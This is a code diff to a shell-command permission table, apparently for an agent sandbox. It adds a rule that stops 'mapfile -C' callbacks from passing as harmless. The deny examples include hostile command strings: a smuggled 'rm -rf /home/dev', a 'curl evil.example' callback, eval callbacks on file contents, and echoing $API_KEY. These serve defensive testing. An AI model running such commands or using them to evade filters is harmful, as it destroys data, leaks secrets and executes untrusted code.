@@ -390,7 +390,12 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       deny: ["mapfile -t a <<< $'-rf\\n/home/dev'; rm \"${a[@]}\"", "mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true', 'mapfile -C eval -c 1 a < cmds.txt', 'readarray -c1 -C eval < cmds.txt', 'f() { shift; "$@"; }; mapfile -C f -c 1 a < cmds.txt'],
       pass: ['mapfile -t lines < notes.txt', "mapfile -C 'echo' -c 1 a < notes.txt", 'f() { echo "$2"; }; mapfile -C f -c 1 a < notes.txt', "mapfile -t a <<< $'-rf\\ndist'; rm \"${a[@]}\""],
     },
-  }, { when: /(?:)/, why: 'mapfile sets an array from what it reads, printing none of it', examples: { deny: [], pass: ['mapfile -t keys <<< "$API_KEY"'] } }),
+  }, {
+    // -C hands each line it reads to a callback, which may print it.
+    when: /^(?!(?:.* )?-[a-zA-Z]*C)/,
+    why: 'mapfile sets an array from what it reads, printing none of it',
+    examples: { deny: ['mapfile -C echo -c 1 keys <<< "$API_KEY"'], pass: ['mapfile -t keys <<< "$API_KEY"'] },
+  }),
   keepsStdin({
     names: ['read'],
     dialects: BASH,
